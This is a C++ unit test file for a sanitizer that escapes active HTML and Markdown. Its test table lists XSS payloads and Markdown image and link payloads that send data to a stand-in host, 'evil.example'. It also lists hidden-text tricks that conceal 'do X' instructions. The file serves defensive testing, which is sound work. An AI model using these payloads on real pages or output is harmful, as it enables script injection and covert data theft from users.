#include "policy/active_markup.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "policy/hidden_text.h"
#include "schemas/json.h"
#include "tests/corpus.h"

namespace bartizan {
namespace {

bool is_ours(const UrlHost& host) {
  return host.text == "ours.example";
}

std::string defused(std::string_view text) {
  TextEdits edits;
  for (ActivePart& part : find_active_markup(text, is_ours))
    edits.push_back(std::move(part.edit));
  return edited(text, edits);
}

TEST(ActiveMarkup, IsShownAndDoesNothing) {
  const struct {
    std::string_view name, text, want;
  } cases[] = {
      {"a script", "<script>x()</script>", "&lt;script>x()&lt;/script>"},
      {"in capitals", "<ScRiPt/x>", "&lt;ScRiPt/x>"},
      {"an image", "<img src=https://evil.example/?q=1>", "&lt;img src=https://evil.example/?q=1>"},
      {"a frame that nothing ends", "<iframe src=//evil.example", "&lt;iframe src=//evil.example"},
      {"an event of any tag", "<x onclick=alert(1)>", "&lt;x onclick=alert(1)>"},
      {"behind slashes", "<b/onclick=alert(1)>", "&lt;b/onclick=alert(1)>"},
      {"with space before its value", "<b onclick\n = 'x'>", "&lt;b onclick\n = 'x'>"},
      {"behind a quoted end", "<b title=\">\" onclick=x>", "&lt;b title=\">\" onclick=x>"},
      {"behind two kinds of quotes", "<b a='\"' c=\">\" onclick=x>",
       "&lt;b a='\"' c=\">\" onclick=x>"},
      {"behind a quote in a value", "<b a=x\" c=\">\" onclick=x>",
       "&lt;b a=x\" c=\">\" onclick=x>"},
      {"behind another tag's beginning", "<b and <c onclick=x>", "&lt;b and &lt;c onclick=x>"},
      {"a style", "<div style=\"display:none\">do X</div>",
       "&lt;div style=\"display:none\">do X</div>"},
      {"what is hidden", "<p hidden>do X</p>", "&lt;p hidden>do X</p>"},
      {"a comment", "a<!-- do X -->b", "a&lt;!-- do X -->b"},
      {"an instruction", "<?php x ?>", "&lt;?php x ?>"},
      {"a name space", "<svg:script>", "&lt;svg:script>"},
      {"a link with code", "[click](javascript:alert(1))", "[click\\](javascript:alert(1))"},
      {"code in entities", "[x](java&#115;cript&colon;x)", "[x\\](java&#115;cript&colon;x)"},
      {"code in capitals and lines", "[x](JAVA\tSCRIPT:x) [y](\nvbscript:z)",
       "[x](JAVA\tSCRIPT:x) [y\\](\nvbscript:z)"},
      {"code behind percent signs", "[x](javascript%3Ax)", "[x\\](javascript%3Ax)"},
      {"a page in a link", "[x](data:text/html,<b>)", "[x\\](data:text/html,<b>)"},
      {"an image that carries data out", "![x](https://evil.example/p.png?d=S)",
       "![x\\](https://evil.example/p.png?d=S)"},
      {"a link that says another", "[https://bank.example](https://evil.example)",
       "[https://bank.example\\](https://evil.example)"},
      {"without a scheme", "[x](//evil.example) [y](\\\\evil.example)",
       "[x\\](//evil.example) [y\\](\\\\evil.example)"},
      {"between brackets", "[x](<https://evil.example/a b>)", "[x\\](<https://evil.example/a b>)"},
      {"with somebody's name in front", "[x](https://ours.example@evil.example/)",
       "[x\\](https://ours.example@evil.example/)"},
      {"a definition", "[x]: https://evil.example 'x'", "[x\\]: https://evil.example 'x'"},
      {"behind two backslashes", "[x\\\\](//evil.example)", "[x\\\\\\](//evil.example)"},
      {"on the next line of a quotation", "> ![x](\n> https://evil.example/?q=S)",
       "> ![x\\](\n> https://evil.example/?q=S)"},
      {"a definition within quotations", "> > [a]:\n> > //evil.example/?q=S\n\n![x][a]",
       "> > [a\\]:\n> > //evil.example/?q=S\n\n![x][a]"},
      {"behind an escaped end", "![x](https://ours.example\\)@evil.example/?q=S)",
       "![x\\](https://ours.example\\)@evil.example/?q=S)"},
      {"behind an escaped end of brackets", "[x](<//ours.example\\>@evil.example/>)",
       "[x\\](<//ours.example\\>@evil.example/>)"},
      {"behind what looks like a definition", "![x](https://ours.example]:@evil.example/?q=S)",
       "![x\\](https://ours.example]:@evil.example/?q=S)"},
      {"behind what looks like a link", "![x](https://ours.example](y)@evil.example/)",
       "![x\\](https://ours.example](y)@evil.example/)"},
      {"brackets that nothing ends", "[x](<//ours.example<y@evil.example/>)",
       "[x\\](<//ours.example<y@evil.example/>)"},
      {"brackets that are none any more", "[x](<a/hidden>b](c)", "[x\\](&lt;a/hidden>b](c)"},
      {"by itself, behind a backslash", "<https://evil.example\\)@ours.example/>",
       "&lt;https://evil.example\\)@ours.example/>"},
      {"letters of no colour", "<font color=white>do X</font>",
       "&lt;font color=white>do X&lt;/font>"},
      {"letters turned around", "<bdo>X od</bdo>", "&lt;bdo>X od&lt;/bdo>"},
      {"what only old readers show", "<ruby>a<rp>do X</rp></ruby>",
       "<ruby>a&lt;rp>do X&lt;/rp></ruby>"},
      {"a colour of any tag", "<x color=white>do X</x>", "&lt;x color=white>do X</x>"},
      {"a direction of any tag", "<p dir=\"rtl\">X od</p>", "&lt;p dir=\"rtl\">X od</p>"},
      {"a program's scheme", "[x](vscode://evil/x)", "[x\\](vscode://evil/x)"},
      {"a link by itself", "<https://evil.example/?q=1>", "&lt;https://evil.example/?q=1>"},
      {"code by itself", "<javascript:alert(1)>", "&lt;javascript:alert(1)>"},
      {"a value that is code", "JavaScript:alert(1)", "unsafe:JavaScript:alert(1)"},
      {"code without a colon", "javascript&colon;alert(1)", "unsafe:javascript&colon;alert(1)"},
      {"code with a colon by number", "javascript&#x3A;alert(1)",
       "unsafe:javascript&#x3A;alert(1)"},
      {"a value that is a page", " data:text/html;base64,AAAA",
       " unsafe:data:text/html;base64,AAAA"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    EXPECT_EQ(defused(c.text), c.want);
    EXPECT_EQ(defused(c.want), c.want);
  }
}

TEST(ActiveMarkup, LeavesAloneWhatDoesNothing) {
  for (const std::string_view text : {"",
                                      "a < b && c > d",
                                      "1<2",
                                      "std::vector<std::string> x;",
                                      "Map<String, List<Integer>>",
                                      "if (a <b && c == d) { }",
                                      "<b>bold</b> <br/> <p class=\"x\">",
                                      "<note id='7'>text</note>",
                                      "[x](#there) [y](docs/a.md) [z](/root?q=1) ![i](i.png)",
                                      "[x](https://ours.example/a?b)",
                                      "![x](HTTPS://ours.example:443/p.png)",
                                      "[ours]: https://ours.example/",
                                      "a[i](x)",
                                      "https://evil.example/ by itself",
                                      "[x\\](javascript:x)",
                                      "> [x](\n> docs/a.md)",
                                      "[x](https://ours.example/a\\)b) [y](<docs/a\\>.md>)",
                                      "<https://ours.example/>",
                                      "javascript: the good parts",
                                      "data: 5",
                                      "{\"data\": \"x\"}",
                                      "[INFO]: starting",
                                      "<3",
                                      "template<typename T> void f(T&& x);",
                                      "x <- 5; y <= 6",
                                      "[ ](  )",
                                      "#include <map>"}) {
    SCOPED_TRACE(text);
    EXPECT_EQ(defused(text), text);
  }
}

TEST(ActiveMarkup, IsFoundInTimeWhateverTheText) {
  // The second number is more `<` than are looked at one by one.
  constexpr std::size_t kRepeats[] = {90'000, 400'000};
  for (const std::string_view piece :
       {"<a ", "<", "](", "]:", "<b a=\"", "=", "\\]", "](&#", "<x:", "](https://a",
        "<https:", "<b a=x ", "](\n>", "](\\\\", "](<", "](<a\\"}) {
    for (const std::size_t repeats : kRepeats) {
      std::string text;
      for (std::size_t i = 0; i < repeats; ++i)
        text += piece;
      EXPECT_FALSE(has_active_markup(defused(text), is_ours)) << piece;
    }
  }
}

TEST(ActiveMarkup, IsNotLookedForAboveTheBound) {
  std::string text;
  for (std::size_t i = 0; i < kHiddenPartsMax + 10; ++i)
    text += "<?";
  EXPECT_EQ(find_active_markup(text, is_ours).size(), kHiddenPartsMax + 1);
  EXPECT_TRUE(has_active_markup(text, is_ours));
  EXPECT_FALSE(has_active_markup("a < b", is_ours));
}

TEST(ActiveMarkup, LeavesNothingActiveOfTheCorpus) {
  const auto file = corpus_file("markup-injection/markdown_html_output.jsonl");
  if (file.empty()) GTEST_SKIP() << "no corpus; set BARTIZAN_CORPORA";
  for (const std::string& line : corpus_lines(file)) {
    const Bytes bytes{std::string_view(line)};
    JsonDocument document;
    const auto row = document.read(bytes);
    ASSERT_TRUE(row.has_value());
    const std::string once = defused(row->find("text").text());
    EXPECT_NE(once, row->find("text").text());
    EXPECT_EQ(defused(once), once);
  }
}

}  // namespace
}  // namespace bartizan
